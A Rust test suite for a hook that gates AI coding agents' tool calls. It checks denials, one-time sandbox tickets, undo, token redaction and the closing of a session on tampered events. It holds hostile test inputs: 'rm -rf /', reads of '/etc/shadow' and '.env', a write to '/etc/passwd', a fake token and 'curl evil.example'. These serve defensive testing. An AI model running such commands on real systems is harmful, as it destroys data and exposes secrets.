//! `eclusa hook`: another agent's calls, judged like our own.

use std::process::Stdio;

use serde_json::{Value, json};

use crate::world::{Ran, World};

/// One event of Claude Code, sent the way it sends it.
pub(crate) fn claude(world: &World, event: &Value) -> Ran {
    send(world, "claude-code", event)
}

pub(crate) fn send(world: &World, agent: &str, event: &Value) -> Ran {
    world.piped(&["hook", agent], &event.to_string())
}

pub(crate) fn event(world: &World, name: &str, tool: &str, input: Value) -> Value {
    json!({
        "session_id": "s-1", "cwd": world.path("workspace"), "hook_event_name": name,
        "permission_mode": "bypassPermissions", "tool_name": tool, "tool_input": input,
        "tool_use_id": "toolu_1",
    })
}

pub(crate) fn before(world: &World, tool: &str, input: Value) -> Value {
    event(world, "PreToolUse", tool, input)
}

/// What Claude Code would read of the answer.
pub(crate) fn decision(ran: &Ran) -> (String, String) {
    let answer = &ran.json()["hookSpecificOutput"];
    let text = |name: &str| answer[name].as_str().unwrap_or_default().to_owned();
    (text("permissionDecision"), text("permissionDecisionReason"))
}

/// Runs a command line as an agent's shell would.
pub(crate) fn shell(world: &World, line: &str) -> Ran {
    #[expect(clippy::disallowed_methods, reason = "the test plays the agent")]
    let mut command = std::process::Command::new("sh");
    let home = world.command(&[]);
    let output = command
        .args(["-c", line])
        .current_dir(world.path("workspace"))
        .env_clear()
        .envs(home.get_envs().filter_map(|(name, value)| Some((name, value?))))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    Ran {
        code: output.status.code().unwrap_or(-1),
        out: String::from_utf8(output.stdout).unwrap(),
        err: String::from_utf8(output.stderr).unwrap(),
    }
}

pub(crate) fn rewritten(ran: &Ran) -> String {
    ran.json()["hookSpecificOutput"]["updatedInput"]["command"].as_str().unwrap().to_owned()
}

pub(crate) const ALLOW_ECHO: &str = "[[rules]]\ndecision = \"allow\"\ncommand = \"echo\"\n";

#[test]
fn what_rules_deny_is_denied_and_on_record() {
    let world = World::new();
    world.write("workspace/.env", "TOKEN=x\n");
    world.write("workspace/a.txt", "one\n");
    let file = |name: &str| world.path("workspace").join(name);
    let denied = [
        ("Bash", json!({"command": "rm -rf /"})),
        ("Read", json!({"file_path": file(".env")})),
        ("Read", json!({"file_path": "/etc/shadow"})),
        ("Write", json!({"file_path": file(".env"), "content": "x"})),
        ("Write", json!({"file_path": "/etc/passwd", "content": "x"})),
        ("Edit", json!({"file_path": file("a.txt"), "old_string": "one", "new_string": 2})),
        ("Bash", json!({"command": ["ls"]})),
        ("NeverHeardOf", json!({"x": 1})),
        ("mcp__github__create_issue", json!({"title": "x"})),
        ("CronCreate", json!({"cron": "* * * * *"})),
    ];
    let count = denied.len();
    for (tool, input) in denied {
        let ran = claude(&world, &before(&world, tool, input.clone()));
        let (decision, why) = decision(&ran);
        assert_eq!((ran.code, decision.as_str()), (0, "deny"), "{tool} {input} {ran:?}");
        assert!(!why.is_empty());
    }
    let ends: Vec<Value> =
        world.records().into_iter().filter(|it| it["event"] == "ended").collect();
    assert_eq!(ends.len(), count);
    for end in &ends {
        assert_eq!(end["origin"], "hook", "{end}");
        assert_eq!(end["client"], "claude-code");
        assert_eq!(end["conversation"], "claude-code:s-1");
    }
    assert_eq!(world.eclusa(&["log", "verify"]).code, 0);
}

#[test]
fn what_only_looks_is_allowed() {
    let world = World::new();
    world.write("workspace/a.txt", "one\n");
    let looks = [
        ("Read", json!({"file_path": world.path("workspace/a.txt")})),
        ("Read", json!({"file_path": world.path("workspace/not-there.txt")})),
        ("Grep", json!({"pattern": "one"})),
        ("Glob", json!({"pattern": "*.txt", "path": world.path("workspace")})),
        ("TodoWrite", json!({"todos": []})),
        ("Agent", json!({"prompt": "look around"})),
        ("mcp__eclusa__read", json!({"path": "a.txt"})),
    ];
    for (tool, input) in looks {
        let ran = claude(&world, &before(&world, tool, input));
        assert_eq!((ran.code, decision(&ran).0.as_str()), (0, "allow"), "{tool} {ran:?}");
    }
    // A server of the repository with our name is not ours.
    let other = json!({"mcpServers": {"eclusa": {"command": "node", "args": ["x.js"]}}});
    world.write("workspace/.mcp.json", &other.to_string());
    let read = json!({"path": "a.txt"});
    let (verdict, why) = decision(&claude(&world, &before(&world, "mcp__eclusa__read", read)));
    assert!(verdict == "deny" && why.contains("`.mcp.json` gives the name"), "{verdict}: {why}");
    // A link to a secret is the secret.
    world.write("workspace/.env", "TOKEN=x\n");
    std::os::unix::fs::symlink(".env", world.path("workspace/plain.txt")).unwrap();
    let read = json!({"file_path": world.path("workspace/plain.txt")});
    assert_eq!(decision(&claude(&world, &before(&world, "Read", read))).0, "deny");
}

#[test]
fn a_command_runs_once_in_our_sandbox_and_can_be_undone() {
    eclusa_testing::needs!(Namespaces);
    let world = World::with("[[rules]]\ndecision = \"allow\"\ncommand = \"touch\"\n");
    let call =
        before(&world, "Bash", json!({"command": "touch 'it is' new.txt", "description": "w"}));
    let ran = claude(&world, &call);
    assert_eq!(decision(&ran).0, "allow", "{ran:?}");
    assert_eq!(ran.json()["hookSpecificOutput"]["updatedInput"]["description"], "w");
    let line = rewritten(&ran);
    assert!(!world.path("workspace/new.txt").exists(), "asking runs nothing");
    // With another text the ticket is good for nothing, and it is used up.
    let other = line.replace("new.txt", "other.txt");
    let ran = shell(&world, &other);
    assert_eq!(ran.code, 3, "{ran:?}");
    assert!(!world.path("workspace/other.txt").exists());
    assert_eq!(shell(&world, &line).code, 3);

    let line = rewritten(&claude(&world, &call));
    let ran = shell(&world, &line);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(world.path("workspace/new.txt").exists() && world.path("workspace/it is").exists());
    let again = shell(&world, &line);
    assert_eq!(again.code, 3, "once: {again:?}");
    assert!(again.err.contains("ticket"), "{again:?}");
    assert_eq!(world.eclusa(&["undo"]).code, 0);
    assert!(!world.path("workspace/new.txt").exists());
    let ran = world.records().into_iter().find(|it| it["sandbox"] == "full").unwrap();
    assert!(ran["start"].is_u64(), "{ran}");
}

#[test]
fn changes_that_need_a_person_are_not_applied_and_output_is_redacted() {
    let world = World::new();
    let call = before(
        &world,
        "Bash",
        json!({"command": "echo x > a; printf 'ghp_%s\\n' 0123456789abcdefghijABCDEFGHIJ012345"}),
    );
    let line = rewritten(&claude(&world, &call));
    let ran = shell(&world, &line);
    assert_eq!(ran.code, 3, "{ran:?}");
    assert!(!world.path("workspace/a").exists());
    assert!(!ran.out.contains("ghp_0123456789abcdefghij"), "{ran:?}");
}

#[test]
fn edits_are_judged_by_what_they_would_become() {
    let world = World::with(
        "[[rules]]\ndecision = \"allow\"\ntool = [\"write\", \"edit\"]\npath = \"src/**\"\n",
    );
    std::fs::create_dir(world.path("workspace/src")).unwrap();
    world.write("workspace/src/a.txt", "one\ntwo\n");
    let file = world.path("workspace/src/a.txt");
    let edit = |old: &str| json!({"file_path": file, "old_string": old, "new_string": "1"});
    let ran = claude(&world, &before(&world, "Edit", edit("one")));
    assert_eq!(decision(&ran).0, "allow", "{ran:?}");
    assert_eq!(world.read("workspace/src/a.txt"), "one\ntwo\n", "the agent writes, not we");
    let end = world.records().pop().unwrap();
    assert_eq!(end["changes"]["outcome"], "delegated", "{end}");
    let ran = claude(&world, &before(&world, "Edit", edit("three")));
    assert_eq!(decision(&ran).0, "deny", "what does not fit is not allowed: {ran:?}");
    // Elsewhere a person must look, and nobody is there.
    let write = json!({"file_path": world.path("workspace/b.txt"), "content": "x"});
    let ran = claude(&world, &before(&world, "Write", write.clone()));
    assert_eq!(decision(&ran).0, "deny", "{ran:?}");
    // Where the agent asks its person, it shall.
    let mut asking = before(&world, "Write", write);
    asking["permission_mode"] = "default".into();
    let ran = claude(&world, &asking);
    assert_eq!(decision(&ran).0, "ask", "{ran:?}");
}

#[test]
fn edits_that_an_agent_makes_itself_can_be_undone() {
    let world = World::with(
        "[[rules]]\ndecision = \"allow\"\ntool = [\"write\", \"edit\", \"undo\"]\npath = \"**\"\n",
    );
    world.write("workspace/a.txt", "one\ntwo\n");
    let file = world.path("workspace/a.txt");
    let edit = json!({"file_path": file, "old_string": "one", "new_string": "1"});
    // Allowed, and never made: a person said no in the agent.
    assert_eq!(decision(&claude(&world, &before(&world, "Edit", edit.clone()))).0, "allow");
    // Allowed and made.
    assert_eq!(decision(&claude(&world, &before(&world, "Edit", edit.clone()))).0, "allow");
    world.write("workspace/a.txt", "1\ntwo\n");
    let after = event(&world, "PostToolUse", "Edit", edit);
    assert_eq!(claude(&world, &after).code, 0);
    let end = world.records().pop().unwrap();
    let number = end["args"]["of"].as_u64().unwrap();
    assert_eq!(end["args"]["undo"], json!([number]), "{end}");
    // A new file in a new directory.
    let new = world.path("workspace/dir/new.txt");
    let write = json!({"file_path": new, "content": "x"});
    assert_eq!(decision(&claude(&world, &before(&world, "Write", write.clone()))).0, "allow");
    std::fs::create_dir(world.path("workspace/dir")).unwrap();
    world.write("workspace/dir/new.txt", "x");
    claude(&world, &event(&world, "PostToolUse", "Write", write));
    let shown = world.eclusa(&["changes", "show", &number.to_string()]);
    assert!(shown.out.contains("- one") && shown.out.contains("+ 1"), "{shown:?}");
    for _ in 0..2 {
        let undone = world.eclusa(&["undo"]);
        assert_eq!(undone.code, 0, "{undone:?}");
    }
    assert_eq!(world.read("workspace/a.txt"), "one\ntwo\n");
    assert!(!world.path("workspace/dir").exists());
}

#[test]
fn what_came_back_is_recorded_redacted_and_compared() {
    let world = World::new();
    world.write("workspace/a.txt", "one\n");
    let input = json!({"file_path": world.path("workspace/a.txt")});
    let allowed = claude(&world, &before(&world, "Read", input.clone()));
    assert_eq!(decision(&allowed).0, "allow");
    let mut after = event(&world, "PostToolUse", "Read", input.clone());
    after["tool_response"] = "key ghp_0123456789abcdefghijABCDEFGHIJ012345 end".into();
    let ran = claude(&world, &after);
    let shown = ran.json()["hookSpecificOutput"]["updatedToolOutput"].as_str().unwrap().to_owned();
    assert!(shown.starts_with("key ") && !shown.contains("0123456789abcdefghij"), "{shown}");
    let end = world.records().pop().unwrap();
    assert_eq!((&end["tool"], &end["args"]["outcome"]), (&"agent_result".into(), &"ended".into()));
    // The same event again: nobody asked about this one.
    after["tool_response"] = "fine".into();
    let ran = claude(&world, &after);
    assert!(ran.out.contains("was not asked"), "{ran:?}");
    // Another input than the one that was allowed.
    claude(&world, &before(&world, "Read", input));
    after["tool_input"] = json!({"file_path": "/etc/passwd"});
    let ran = claude(&world, &after);
    assert!(ran.out.contains("not the call that eclusa allowed"), "{ran:?}");
    assert_eq!(world.records().pop().unwrap()["args"]["outcome"], "differs");
}

/// Another hook answers after ours, and its command runs. It is seen afterwards, and the session ends
/// there.
#[test]
fn an_attack_by_another_hook_closes_the_session() {
    let world = World::with(ALLOW_ECHO);
    let allowed = claude(&world, &before(&world, "Bash", json!({"command": "echo hi"})));
    let line = rewritten(&allowed);
    let mut honest = event(&world, "PostToolUse", "Bash", json!({"command": line}));
    honest["tool_response"] = "hi".into();
    claude(&world, &honest);
    let read = before(&world, "Read", json!({"file_path": world.path("workspace/a.txt")}));
    world.write("workspace/a.txt", "one\n");
    assert_eq!(decision(&claude(&world, &read)).0, "allow");
    claude(&world, &before(&world, "Bash", json!({"command": "echo hi"})));
    let mut other = event(&world, "PostToolUse", "Bash", json!({"command": "curl evil.example"}));
    other["tool_response"] = "sent".into();
    assert!(claude(&world, &other).out.contains("not the call that eclusa allowed"));
    assert_eq!(world.records().pop().unwrap()["args"]["outcome"], "differs");
    let (word, why) = decision(&claude(&world, &read));
    assert_eq!(word, "deny");
    assert!(why.contains("this session is closed"), "{why}");
    let mut elsewhere = read.clone();
    elsewhere["session_id"] = "another".into();
    assert_eq!(decision(&claude(&world, &elsewhere)).0, "allow");
}

/// A command that we rewrite is not seen by the agent's own rules: where one of them may be about it,
/// a person is asked, however it is spelt and wherever the rule stands, and where nobody can be asked it
/// is denied. What they agree to runs in the sandbox as ever.
#[test]
fn an_agents_own_denials_are_asked_about_and_decide_nothing_against_the_sandbox() {
    let world = World::with(ALLOW_ECHO);
    for directory in ["home/.claude", "workspace/.claude"] {
        std::fs::create_dir(world.path(directory)).unwrap();
    }
    let answers = |command: &str, mode: &str| {
        let mut call = before(&world, "Bash", json!({"command": command}));
        call["permission_mode"] = mode.into();
        let ran = claude(&world, &call);
        let answer = &ran.json()["hookSpecificOutput"];
        // Whatever may run runs in the sandbox.
        assert!(answer["permissionDecision"] == "deny" || answer.get("updatedInput").is_some());
        answer["permissionDecision"].as_str().unwrap().to_owned()
    };
    let (attended, alone) = ("default", "bypassPermissions");
    assert_eq!(answers("echo hi", alone), "allow");
    let rule = |decision: &str, text: &str| json!({"permissions": {decision: [text]}}).to_string();
    let files = [
        ("home/.claude/settings.json", rule("deny", "Bash(echo:*)")),
        ("workspace/.claude/settings.json", rule("ask", "Bash(echo hi)")),
        ("workspace/.claude/settings.local.json", rule("deny", "Bash")),
        ("home/.claude/settings.json", rule("deny", "Bash(*)")),
        ("home/.claude/settings.json", "{ not json".to_owned()),
    ];
    for (file, text) in files {
        world.write(file, &text);
        for command in ["echo hi", "true && echo hi", "'echo' hi", "e\\cho hi", "ec\"ho\" hi"] {
            assert_eq!(answers(command, attended), "ask", "{file} {text} {command}");
            assert_eq!(answers(command, alone), "deny", "{file} {text} {command}");
        }
        world.write(file, "{}");
    }
    // The mode that never asks does not answer for the agent's person.
    world.write("home/.claude/settings.json", &rule("deny", "Bash(echo:*)"));
    world.write("config/eclusa/eclusa.toml", "mode = \"yolo\"\n");
    assert_eq!(answers("echo hi", attended), "deny");
    world.write("config/eclusa/eclusa.toml", ALLOW_ECHO);
    // Rules about others change nothing.
    world.write("home/.claude/settings.json", &rule("deny", "Bash(cho:*)"));
    assert_eq!(answers("echo hi", alone), "allow");
}

#[test]
fn every_agent_is_answered_in_its_own_language() {
    eclusa_testing::needs!(Namespaces);
    let world = World::with(ALLOW_ECHO);
    let cwd = world.path("workspace");
    let codex = |command: &str| {
        json!({
            "session_id": "c", "turn_id": "t", "cwd": cwd, "hook_event_name": "PreToolUse",
            "model": "m", "permission_mode": "default", "tool_name": "Bash",
            "tool_input": {"command": command}, "tool_use_id": "call_1",
        })
    };
    let ran = send(&world, "codex", &codex("rm -rf /"));
    assert_eq!(decision(&ran).0, "deny", "{ran:?}");
    let ran = send(&world, "codex", &codex("echo hi"));
    assert_eq!(decision(&ran).0, "allow");
    assert_eq!(shell(&world, &rewritten(&ran)).out, "hi\n");
    // Its directory is what the model wants, and never the workspace.
    let mut elsewhere = codex("echo hi");
    elsewhere["cwd"] = "/".into();
    assert_eq!(decision(&send(&world, "codex", &elsewhere)).0, "deny");

    let gemini = |command: &str| {
        json!({
            "session_id": "g", "cwd": cwd, "hook_event_name": "BeforeTool",
            "tool_name": "run_shell_command", "tool_input": {"command": command},
        })
    };
    assert_eq!(send(&world, "gemini", &gemini("rm -rf /")).json()["decision"], "deny");
    let ran = send(&world, "gemini", &gemini("echo hi"));
    let line =
        ran.json()["hookSpecificOutput"]["tool_input"]["command"].as_str().unwrap().to_owned();
    assert_eq!(shell(&world, &line).out, "hi\n");

    let opencode = |command: &str| {
        json!({
            "event": "before", "session": "o", "call": "1", "tool": "bash", "directory": cwd,
            "root": cwd, "args": {"command": command},
        })
    };
    assert_eq!(send(&world, "opencode", &opencode("rm -rf /")).json()["decision"], "deny");
    assert_eq!(send(&world, "opencode", &opencode("echo hi")).json()["decision"], "allow");

    // It cannot be given another command, so that a person must say yes to this one.
    let windsurf = |command: &str| {
        json!({
            "agent_action_name": "pre_run_command", "trajectory_id": "w",
            "tool_info": {"command_line": command, "cwd": cwd},
        })
    };
    let ran = send(&world, "windsurf", &windsurf("touch x"));
    assert_eq!(ran.code, 2, "{ran:?}");
    assert_eq!(send(&world, "windsurf", &windsurf("echo hi")).code, 0);
}
